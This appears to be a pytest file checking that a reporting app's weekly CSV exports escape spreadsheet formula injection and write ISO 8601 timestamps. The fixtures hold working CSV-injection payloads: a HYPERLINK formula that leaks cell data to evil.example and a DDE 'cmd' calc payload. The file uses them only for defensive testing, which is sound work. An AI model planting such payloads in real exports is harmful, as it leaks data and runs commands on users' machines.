"""The weekly CSV cannot carry a spreadsheet formula: vendor and environment names and breach reasons are user text."""

from __future__ import annotations

import csv
import io

import pytest

from reports.exports import report_breaches_csv, report_csv
from reports.selectors import report_weekly
from requests_app.choices import EventKind

from .conftest import ist, make_event

pytestmark = pytest.mark.django_db
WEEK = "2026-W47"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula_and_the_figures_stay_numbers(dataset):
    world = dataset.world
    world.vendor_a.name = "=cmd|' /C calc'!A0"
    world.vendor_a.save()
    dataset.bihar.name = "@SUM(1+1)"
    dataset.bihar.save()
    # An escalation before R1's resolution fell due becomes the breach's reason.
    make_event(dataset.requests["R1"], EventKind.ESCALATE, ist(16, 21), REASON)

    report = report_weekly(user=world.pm, week=WEEK)
    rows = list(csv.DictReader(io.StringIO(report_csv(report).lstrip("\ufeff"))))
    breaches = list(csv.DictReader(io.StringIO(report_breaches_csv(report).lstrip("\ufeff"))))
    long_rows = list(csv.DictReader(io.StringIO(report_csv(report, "v1"))))

    assert f"'{REASON}" in {row["reason"] for row in breaches}
    assert {row["label"] for row in rows if row["dimension"] == "vendor"} >= {"'=cmd|' /C calc'!A0"}
    assert {row["label"] for row in rows if row["dimension"] == "environment"} >= {"'@SUM(1+1)"}
    assert f"'{REASON}" in {row["value"] for row in long_rows if row["metric"] == "reason"}
    dangerous = [
        (name, cell)
        for table in (rows, breaches, long_rows)
        for row in table
        for name, cell in row.items()
        if cell.startswith(TRIGGERS) and not _is_number(cell)
    ]
    assert dangerous == []
    (change,) = [row for row in rows if row["section"] == "change"]
    negative = [cell for cell in change.values() if cell.startswith("-")]
    assert negative and all(_is_number(cell) for cell in negative)


ISO_WITH_OFFSET = r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$"


def test_csv_times_are_iso_8601_with_their_offset(dataset):
    import re

    report = report_weekly(user=dataset.world.pm, week=WEEK)
    cells = [
        cell
        for text in (report_csv(report), report_breaches_csv(report), report_csv(report, "v1"))
        for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
        for cell in row.values()
    ]
    times = [cell for cell in cells if re.match(r"^\d{4}-\d\d-\d\dT", cell)]
    assert times
    assert all(re.match(ISO_WITH_OFFSET, value) for value in times), times
    assert any(value.endswith("+05:30") for value in times)
